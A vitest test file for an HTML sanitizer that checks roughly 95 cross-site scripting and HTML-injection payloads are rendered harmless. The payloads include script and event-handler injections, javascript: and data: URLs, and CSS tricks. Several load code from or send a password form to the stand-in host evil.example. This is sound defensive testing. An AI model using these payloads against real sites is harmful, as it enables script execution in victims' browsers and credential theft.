import { RESOURCES } from '@heed/catalog/resources'
import { describe, expect, it } from 'vitest'
import { cleanHtml, textOf } from './rich-text'

/** What stays of a text: tags with these attributes and nothing else. */
const HARMLESS =
  /^<\/?(p|h3|h4|ul|ol|li|strong|em|u|blockquote|code|br|table|thead|tbody|tr|th|td|a)( (colspan|rowspan)="\d\d?")*( href="(https:\/\/|mailto:|\/resources|\/tasks)[^"<>]*"( target="_blank" rel="noopener noreferrer nofollow")?)?( \/)?>$/

const tagsOf = (html: string) => html.match(/<[^>]*>?/g) ?? []

/** Rule D5, what people have tried on others. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.example/x.js">',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)</script',
  '<script\x00>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><p onclick=alert(1)>x</p></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>x</option></select>',
  '<textarea><script>alert(1)</script></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)><head></head></html>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!DOCTYPE html [<!ENTITY x "y">]><p>&x;</p>',
  '<?xml version="1.0"?><p>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/tasks/../../logout">x</a>',
  '<a href="/tasks//evil.example">x</a>',
  '<a href="/api/user/logout">x</a>',
  '<a href="https://user:secret@evil.example">x</a>',
  '<a href="mailto:a@b.example?bcc=c@d.example&body=x">x</a>',
  '<a href="https://a.example" onclick=alert(1) style="x" class="x" id="x" target="_self" rel="opener">x</a>',
  '<a href="https://a.example/&quot;onmouseover=alert(1)">x</a>',
  '<a name="login" id="login">x</a>',
  '<p id="__proto__" name="constructor">x</p>',
  '<p onclick="alert(1)" class="mantine-Modal" data-x="y">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p `onclick=alert(1)>x</p>',
  '<td background="javascript:alert(1)">x</td>',
  '<td colspan="1000000000" rowspan="-1">x</td>',
  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
  '<x-evil onclick=alert(1)>x</x-evil>',
  '<p>\u202egnp.exe</p><img src="https://evil.example/track.gif">',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</section></main><h1>Sign in again</h1>',
  `${'<b>'.repeat(5000)}x`,
  `<p ${'x=y '.repeat(5000)}>x</p>`,
]

describe('a hostile text', () => {
  it('is one of many', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(60))

  it.each(HOSTILE)('is inert: %s', (html) => {
    const clean = cleanHtml(html)
    for (const tag of tagsOf(clean)) expect(tag).toMatch(HARMLESS)
    expect(clean.replaceAll(/<[^>]*>/g, '')).not.toMatch(/[<>]/)
    expect(cleanHtml(clean)).toBe(clean)
    expect(textOf(clean)).not.toMatch(/<\/?(p|td|a|strong)\b/)
  })
})

it.each([
  [
    '<p>Plain <b>bold</b> <i>slanted</i> <u>under</u></p>',
    '<p>Plain <strong>bold</strong> <em>slanted</em> <u>under</u></p>',
  ],
  [
    '<h1>One</h1><h2>Two</h2><h3>Three</h3><h6>Six</h6>',
    '<h3>One</h3><h3>Two</h3><h3>Three</h3><h4>Six</h4>',
  ],
  ['<td colspan="2" rowspan="1" style="x">x</td>', '<td colspan="2">x</td>'],
  [
    '<a href="/tasks/0194d4a0?companyID=1">The task</a>',
    '<a href="/tasks/0194d4a0?companyID=1">The task</a>',
  ],
  ['<a href="mailto:help@irs.example">Mail</a>', '<a href="mailto:help@irs.example">Mail</a>'],
  [
    '<a href="https://IRS.example/a b">IRS</a>',
    '<a href="https://irs.example/a%20b" target="_blank" rel="noopener noreferrer nofollow">IRS</a>',
  ],
  ['<a href="javascript:x">One</a> <a href="/tasks">two</a>', 'One <a href="/tasks">two</a>'],
  ['A < B & C', 'A &lt; B &amp; C'],
  ['  ', ''],
])('writes %s as %s', (given, clean) => expect(cleanHtml(given)).toBe(clean))

it('leaves what is shipped as it is', () => {
  for (const { key, sections } of RESOURCES)
    for (const { html } of sections) expect(cleanHtml(html), key).toBe(html)
})

it('finds the words of a text, apart where blocks end', () => {
  expect(
    textOf('<p>Fees &amp; <strong>cost</strong>s</p><table><tr><td>2026</td><td>$3</td></tr></table>'),
  ).toBe('Fees & costs 2026 $3')
})
